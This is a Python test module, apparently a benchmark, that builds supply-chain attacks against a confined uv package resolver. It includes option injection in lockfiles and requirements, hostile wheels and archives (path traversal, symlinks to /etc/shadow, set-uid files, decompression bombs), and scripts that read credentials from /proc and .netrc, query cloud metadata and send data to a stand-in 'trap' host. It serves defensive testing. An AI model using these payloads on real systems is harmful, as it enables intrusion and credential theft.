"""The attempts on the way packages come: texts of projects, packages, pages, and hostile tools."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from heal_bot.core.events import Run
from heal_bot.core.model import RunHints
from heal_bot.environments.uv_input import Package

if TYPE_CHECKING:
    from benchmarks._supply_chain import World

Facts = dict[str, Any]
Play = Callable[["World"], object]
_EVIL = "evil-99-py3-none-any.whl"

# --- What a project says, read by us before uv has any of it. ---


def _package(name: str) -> str:
    return f"[[package]]\nname = {json.dumps(name)}\nversion = '1.0'\n"


def _lines(facts: Facts) -> str:
    """A name that brings options, were it written as it is."""
    trap = f"http://{facts['trap']}"
    return f"x\n-r {trap}/list\n-i {trap}/simple\n--find-links {trap}/\nevil @ {trap}/{_EVIL}"


def _file(name: str, text: Callable[[Facts], str]) -> Callable[[Facts], dict[str, Any]]:
    return lambda facts: {"files": {name: text(facts)}}


def _required(line: Callable[[Facts], str]) -> Callable[[Facts], dict[str, Any]]:
    def make(facts: Facts) -> dict[str, Any]:
        told = json.dumps([line(facts)])
        return {
            "files": {"pyproject.toml": f"[project]\nname='m'\nversion='1'\ndependencies={told}\n"}
        }

    return make


TEXTS: dict[str, Callable[[Facts], dict[str, Any]]] = {
    "uv.lock: a name of several lines": _file("uv.lock", lambda f: _package(_lines(f))),
    "poetry.lock: a name of several lines": _file("poetry.lock", lambda f: _package(_lines(f))),
    "pdm.lock: a name of several lines": _file("pdm.lock", lambda f: _package(_lines(f))),
    "pylock.toml: a name of several lines": _file(
        "pylock.toml", lambda f: _package(_lines(f)).replace("[[package]]", "[[packages]]")
    ),
    "Pipfile.lock: a name of several lines": _file(
        "Pipfile.lock", lambda f: json.dumps({"default": {_lines(f): {"version": "==1.0"}}})
    ),
    "uv.lock: a source of its own": _file(
        "uv.lock",
        lambda f: _package("dep") + f"source = {{ registry = 'http://{f['trap']}/simple' }}\n",
    ),
    "uv.lock: ten thousand names with addresses": _file(
        "uv.lock",
        lambda f: "".join(_package(f"e{n} @ http://{f['trap']}/x") for n in range(10_000)),
    ),
    "requirements: options for indexes": _file(
        "requirements.txt",
        lambda f: (
            f"-i http://{f['trap']}/simple\n--extra-index-url http://{f['trap']}/simple\n"
            f"--find-links http://{f['trap']}/\n--trusted-host {f['trap']}\ndep\n"
        ),
    ),
    "requirements: a list from an address": _file(
        "requirements.txt", lambda f: f"-r http://{f['trap']}/list\n-c http://{f['trap']}/list\n"
    ),
    "requirements: a wheel from an address": _file(
        "requirements.txt", lambda f: f"evil @ http://{f['trap']}/{_EVIL}\n"
    ),
    "requirements: variables in an address": _file(
        "requirements.txt",
        lambda f: f"evil @ http://{f['trap']}/${{UV_DEFAULT_INDEX}}/${{HOME}}/{_EVIL}\n",
    ),
    "requirements: a file of root": _file(
        "requirements.txt", lambda f: f"-r {f['closed']}\n-r /dev/zero\n-e {f['closed']}\ndep\n"
    ),
    "requirements: a repository": _file(
        "requirements.txt", lambda f: f"git+http://{f['trap']}/x.git#egg=evil\n"
    ),
    "pyproject: a name of several lines": _required(_lines),
    "pyproject: a marker of several lines": _required(
        lambda f: f'dep ; os_name == "a\n-r http://{f["trap"]}/list"'
    ),
    "pyproject: sources and indexes of uv": _file(
        "pyproject.toml",
        lambda f: (
            "[project]\nname='m'\nversion='1'\ndependencies=['dep']\n"
            f"[[tool.uv.index]]\nname='t'\nurl='http://{f['trap']}/simple'\ndefault=true\n"
            f"[tool.uv]\nfind-links=['http://{f['trap']}/']\n"
            f"[tool.uv.sources]\ndep={{url='http://{f['trap']}/{_EVIL}'}}\n"
        ),
    ),
    "poetry: sources of its own": _file(
        "pyproject.toml",
        lambda f: (
            "[tool.poetry]\nname='m'\nversion='1'\n[tool.poetry.dependencies]\n"
            f"evil={{url='http://{f['trap']}/{_EVIL}'}}\ndep={{git='http://{f['trap']}/x.git'}}\n"
            f"[[tool.poetry.source]]\nname='t'\nurl='http://{f['trap']}/simple'\n"
        ),
    ),
    "uv.toml, pip.conf, .netrc of the project": lambda f: {
        "files": {
            "uv.toml": f"[[index]]\nurl='http://{f['trap']}/simple'\ndefault=true\n",
            "pip.conf": f"[global]\nindex-url=http://{f['trap']}/simple\n",
            ".netrc": "machine 127.0.0.1 login e password p\n",
            "requirements.txt": "dep\n",
        }
    },
    "setup.cfg: several lines in one": _file(
        "setup.cfg", lambda f: f"[options]\ninstall_requires =\n  dep\n  -r http://{f['trap']}/l\n"
    ),
    "tox.ini: an index of its own": _file(
        "tox.ini",
        lambda f: (
            f"[testenv]\ndeps =\n  -i http://{f['trap']}/simple\n  dep\n"
            f"setenv =\n  UV_INDEX=http://{f['trap']}/simple\n"
        ),
    ),
    "report: a plugin of several lines": lambda f: {
        "files": {},
        "hints": RunHints(plugins=(f"pytest-x\n-r http://{f['trap']}/list",)),
    },
}

# --- What a package or a page of the index says, read by uv in its confinement. ---


def _wheel(*entries: tuple[str, bytes, int]) -> bytes:
    """A wheel of `dep` with further entries, each with its mode."""
    info = "dep-9.0.dist-info"
    usual = (
        (f"{info}/METADATA", b"Metadata-Version: 2.1\nName: dep\nVersion: 9.0\n", 0o644),
        (f"{info}/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n", 0o644),
        (f"{info}/RECORD", b"", 0o644),
    )
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data, mode in (*entries, *usual):
            entry = zipfile.ZipInfo(path)
            entry.external_attr = mode << 16
            archive.writestr(entry, data)
    return raw.getvalue()


def _holding(*entries: tuple[str, bytes, int]) -> Play:
    def play(world: World) -> object:
        with world.index.holding("dep", "dep-9.0-py3-none-any.whl", _wheel(*entries)):
            return world.fetch("dep")

    return play


def _replacing(world: World) -> object:
    """A package with a file of what runs the tests: the one that is there has to stay."""
    content = _wheel(("pytest.py", b"'REACHED'", 0o644))
    with world.index.holding("dep", "dep-9.0-py3-none-any.whl", content):
        return world.assemble({"requirements.txt": "dep\n"})


def _requiring(line: str) -> Play:
    def play(world: World) -> object:
        world.index.wheel("asking", requires=[line.format(**world.facts)])
        return world.fetch("asking")

    return play


def _moved(path: str, goal: str) -> Play:
    def play(world: World) -> object:
        world.index.moved[path] = goal.format(**world.facts)
        try:
            return world.fetch("dep")
        finally:
            world.index.moved.clear()

    return play


def _page(text: str, file: str = "index.html") -> Play:
    """A page of a package `odd` as it stands."""

    def play(world: World) -> object:
        world.index.page("odd", text % world.facts, file)
        return world.fetch("odd")

    return play


def _other_bytes(world: World) -> object:
    """The page vouches for other bytes than there are."""
    digest = hashlib.sha256(b"other").hexdigest()
    link = f'<a href="odd-1.0-py3-none-any.whl#sha256={digest}">odd-1.0-py3-none-any.whl</a>'
    world.index.wheel("odd", files={"odd.py": "'REACHED'\n"})
    world.index.page("odd", link)
    return world.fetch("odd")


def _archive(*members: tuple[str, bytes, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, data, kind in members:
            member = tarfile.TarInfo(name)
            member.type = kind
            member.size = len(data) if kind == tarfile.REGTYPE else 0
            member.linkname = data.decode() if kind != tarfile.REGTYPE else ""
            tar.addfile(member, io.BytesIO(data))
    return raw.getvalue()


def _sdist(*members: tuple[str, str, bytes]) -> Play:
    """A source archive whose members are filled with facts; what is read of it is told."""

    def play(world: World) -> object:
        filled = [(n, text.format(**world.facts).encode(), kind) for n, text, kind in members]
        world.index._put("src", "src-1.0.tar.gz", _archive(*filled))
        _, _, table = world.packages.sdist(Run(world.hear), Package("src"))
        world.said.append(repr(table))
        return table

    return play


_BOMB = (("src-1.0/zeros", "\0" * (64 << 20), tarfile.REGTYPE),) * 4
SERVED: dict[str, Play] = {
    "package: requires an address": _requiring(f"evil @ http://{{trap}}/simple/evil/{_EVIL}"),
    "package: requires an address by https": _requiring(
        f"evil @ https://{{hidden}}/simple/evil/{_EVIL}"
    ),
    "package: requires a variable": _requiring(f"evil @ http://{{trap}}/${{{{HOME}}}}/{_EVIL}"),
    "package: requires a file of root": _requiring("evil @ file://{closed}"),
    "package: requires a repository": _requiring("evil @ git+http://{trap}/x.git"),
    "package: requires an address of the index": _requiring("evil @ https://{index}/admin.html"),
    "wheel: a path above": _holding(("../../../outside", b"x", 0o644)),
    "wheel: an absolute path": _holding(("/tmp/heal-bot-outside", b"x", 0o644)),
    "wheel: a link out": _holding(("dep/link", b"/etc/shadow", 0o120777)),
    "wheel: a thousand folders deep": _holding(("d/" * 1_000 + "x.py", b"", 0o644)),
    "wheel: set-uid": _holding(("dep/run", b"#!/bin/sh\n", 0o104755)),
    "wheel: a file of what runs the tests": _replacing,
    "index: other bytes than the page vouches for": _other_bytes,
    "index: a page moved to another host": _moved("/simple/dep/", "http://{trap}/simple/dep/"),
    "index: a page moved to another by https": _moved(
        "/simple/dep/", "https://{hidden}/simple/dep/"
    ),
    "index: a page moved to a file": _moved("/simple/dep/", "file://{closed}"),
    "index: a file moved to another host": _moved(
        "/simple/dep/dep-1.0-py3-none-any.whl", "http://{trap}/simple/evil/" + _EVIL
    ),
    "index: a page that names a host by http": _page(
        f'<a href="http://%(trap)s/simple/evil/{_EVIL}">odd-1.0-py3-none-any.whl</a>'
    ),
    "index: a page that names an inner number": _page(
        f'<a href="https://127.0.0.2:9/{_EVIL}">odd-1.0-py3-none-any.whl</a>'
    ),
    "index: a page that names a file": _page(
        '<a href="file://%(closed)s">odd-1.0-py3-none-any.whl</a>'
    ),
    "index: an address in what is said of a release": _page(
        "<a href='odd-1.0-py3-none-any.whl' data-yanked='href=\"http://%(trap)s/x\"'>"
        "odd-1.0-py3-none-any.whl</a>"
    ),
    "index: a page nested without end": _page("[" * 200_000, "index.json"),
    "archive: pyproject is a link to a file of root": _sdist(
        ("src-1.0/pyproject.toml", "{closed}", tarfile.SYMTYPE)
    ),
    "archive: pyproject is a second name of a file": _sdist(
        ("src-1.0/pyproject.toml", "{open}", tarfile.LNKTYPE)
    ),
    "archive: a path above": _sdist(("../outside", "x", tarfile.REGTYPE)),
    "archive: zeros before all": _sdist(*_BOMB, ("src-1.0/pyproject.toml", "", tarfile.REGTYPE)),
    "archive: setup.py that asks an address": _sdist(
        ("src-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: src\nVersion: 1.0\n", tarfile.REGTYPE),
        (
            "src-1.0/setup.py",
            "import urllib.request\nurllib.request.urlopen('http://{trap}/stolen')\n",
            tarfile.REGTYPE,
        ),
    ),
}

# --- A tool that obeys its attacker, in the place of uv. ---

PRELUDE = r"""
import json, os, socket, sys
F = json.loads(sys.argv[1])
def ask(line, *more, body=""):
    s = socket.create_connection(("127.0.0.1", 1), 5)
    lines = (line, "Host: " + F["trap"], *more, "Connection: close", "", body)
    s.sendall("\r\n".join(lines).encode())
    data = b""
    try:
        while piece := s.recv(65536):
            data += piece
    except OSError:
        pass
    print(data.decode("latin-1"))
    if not data or data.split()[1][:1] not in (b"4", b"5"):
        print("REACHED", line)
"""
_HEADERS = '"Authorization: Basic x", "X-Forwarded-Host: " + F["trap"]'
TOOLS: dict[str, str] = {
    "tool: connects by itself": """
host, port = F["trap"].split(":")
s = socket.create_connection((host, int(port)), 5)
s.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
print(s.recv(99))
""",
    "tool: other kinds of sockets": """
for family, kind in ((2, 2), (10, 1), (1, 1), (1, 2), (2, 3), (16, 3), (40, 1)):
    try:
        socket.socket(family, kind)
        print("REACHED", family, kind)
    except OSError:
        pass
""",
    "tool: asks another host": """
ask("GET http://" + F["trap"] + "/stolen HTTP/1.1")
ask("GET http://" + F["hidden"] + "/stolen HTTP/1.1")
ask("GET https://" + F["hidden"] + "/stolen HTTP/1.1")
""",
    "tool: opens a tunnel": 'ask("CONNECT " + F["hidden"] + " HTTP/1.1")',
    "tool: asks by the name of a header": f'ask("GET /stolen HTTP/1.1", {_HEADERS})',
    "tool: asks the service of a cloud": """
ask("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1")
ask("GET http://[fd00:ec2::254]/latest/ HTTP/1.1")
""",
    "tool: asks the index for another page": """
for path in ("/admin.html", "/simple/../admin.html", "/simple/%2e%2e/admin.html", "/simple/",
             "/simple/dep/..%2f..%2fadmin.html", "/simple/dep/../../admin.html", "//admin.html"):
    ask("GET http://" + F["index"] + path + " HTTP/1.1")
""",
    "tool: writes to the index": """
for verb in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS"):
    ask(verb + " http://" + F["index"] + "/simple/dep/ HTTP/1.1", "Content-Length: 1", body="x")
""",
    "tool: a second request within the first": """
s = socket.create_connection(("127.0.0.1", 1), 5)
inner = "GET http://" + F["index"] + "/admin.html HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
outer = "GET http://" + F["index"] + "/simple/dep/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d"
s.sendall((outer % len(inner) + "\\r\\n\\r\\n" + inner).encode())
s.settimeout(5)
try:
    while piece := s.recv(65536):
        print(piece.decode("latin-1"))
except OSError:
    pass
""",
    "tool: a file as another's address": """
ask("GET http://" + F["index"] + "@" + F["trap"] + "/simple/dep/ HTTP/1.1")
ask("GET http://" + F["trap"] + "#@" + F["index"] + "/simple/dep/ HTTP/1.1")
ask("GET http://" + F["trap"] + chr(92) + "@" + F["index"] + "/simple/dep/ HTTP/1.1")
""",
    "tool: looks for the password": """
print(dict(os.environ))
for pid in map(str, range(1, 40000)):
    for name in ("environ", "cmdline", "mem", "maps", "fd"):
        if int(pid) == os.getpid():
            continue
        try:
            path = "/proc/" + pid + "/" + name
            print(os.listdir(path) if name == "fd" else open(path, "rb").read(1 << 16))
            print("REACHED", path)
        except OSError:
            pass
""",
    "tool: reads files that are not its own": """
for path in (F["closed"], F["open"], "/etc/shadow", "/root/.netrc", "/proc/1/environ"):
    try:
        print(open(path, errors="replace").read(4096), "REACHED")
    except OSError:
        pass
""",
    "tool: writes outside of its folder": """
for path in (F["outside"], F["open"].replace("canary", "new"), "/usr/lib/evil.py"):
    try:
        open(path, "w").write("x")
        print("REACHED")
    except OSError:
        pass
""",
    "tool: stays when it is done": """
import time
if os.fork() == 0:
    os.setsid()
    time.sleep(3)
    open(F["outside"], "w")
""",
    "tool: never ends": "import time\ntime.sleep(15)",
    "tool: writes without end": "while True: print('x' * 65536)",
    "tool: asks without end": """
for number in range(500):
    ask("GET http://" + F["trap"] + "/" + str(number) + " HTTP/1.1")
""",
}
LEFT: dict[str, str] = {
    "tool: leaves a link for its answer": "os.symlink(F['closed'], 'lock.txt')",
    "tool: leaves a pipe for its answer": "os.mkfifo('lock.txt')",
    "tool: answers with a list from an address": (
        "open('lock.txt', 'w').write('-r http://' + F['trap'] + '/list\\n')"
    ),
    "tool: answers with an address": (
        "open('lock.txt', 'w').write('dep @ http://' + F['trap'] + '/x.whl\\n')"
    ),
    "tool: leaves a link for the packages": """
open('lock.txt', 'w').write('dep==1.0\\n')
os.symlink(os.path.dirname(F['closed']), 'site')
""",
    "tool: leaves links, pipes and set-uid files among the packages": """
open('lock.txt', 'w').write('dep==1.0\\n')
os.makedirs('site/dep')
os.symlink(F['closed'], 'site/dep/a.py')
os.symlink('../../../../../..' + F['closed'], 'site/dep/b.py')
os.symlink(os.path.dirname(F['closed']), 'site/c')
os.mkfifo('site/dep/pipe')
""",
    "tool: leaves packages a thousand folders deep": """
open('lock.txt', 'w').write('dep==1.0\\n')
os.mkdir('site')
os.chdir('site')
for _ in range(1500):
    os.mkdir('d')
    os.chdir('d')
open('x.py', 'w')
""",
}
